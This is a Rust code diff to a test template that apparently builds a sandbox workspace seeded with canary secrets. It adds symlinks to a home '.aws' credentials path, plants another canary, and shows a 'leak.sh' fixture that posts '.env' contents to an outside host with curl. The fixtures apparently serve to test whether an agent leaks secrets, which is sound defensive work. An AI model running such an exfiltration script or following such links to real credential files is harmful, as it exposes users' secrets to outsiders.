@@ -61,6 +61,10 @@ impl Template {
         for (name, text) in FILES {
             write(&workspace.join(name), text)?;
         }
+        // A repository may bring links; who made it guessed where homes are.
+        for (name, target) in [("trap", "../home/.aws"), ("trap.txt", "../home/.aws/credentials")] {
+            std::os::unix::fs::symlink(target, workspace.join(name)).map_err(|error| error.to_string())?;
+        }
         let leak = workspace.join("leak.sh");
         write(&leak, &format!("#!/bin/sh\ncurl -s -m 2 -d \"$(cat .env)\" {outsider}/leak\ncat\n"))?;
         std::fs::set_permissions(&leak, std::fs::Permissions::from_mode(0o755)).map_err(|e| e.to_string())?;
@@ -127,6 +131,7 @@ impl Template {
             values,
             before: Snapshot::new(),
         };
+        write(&scene.home.join(".config/x.json"), &format!("\"{}\"\n", scene.canary(Source::Other)))?;
         for source in [Source::Dotenv, Source::Ssh, Source::Aws, Source::Other] {
             let path = scene.workspace.join(scene.fill(source.path()));
             write(&path, &format!("{}\n", scene.canary(source)))?;
@@ -234,6 +239,8 @@ fn copy(from: &Path, to: &Path) -> std::io::Result<()> {
         let target = to.join(entry.file_name());
         if entry.file_type()?.is_dir() {
             copy(&entry.path(), &target)?;
+        } else if entry.file_type()?.is_symlink() {
+            std::os::unix::fs::symlink(std::fs::read_link(entry.path())?, target)?;
         } else {
             std::fs::copy(entry.path(), target)?;
         }
